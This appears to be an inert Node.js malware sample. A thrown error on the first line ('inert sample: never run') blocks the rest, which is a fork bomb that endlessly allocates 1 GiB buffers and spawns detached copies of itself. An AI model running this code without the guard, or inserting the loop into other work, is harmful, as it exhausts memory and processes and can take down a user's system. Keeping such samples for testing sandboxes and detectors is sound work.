throw new Error("inert sample: never run");
const { spawn } = require("child_process");
const held = [];
for (;;) {
  held.push(Buffer.alloc(1 << 30));
  spawn(process.execPath, [__filename], { detached: true, stdio: "ignore" }).unref();
}
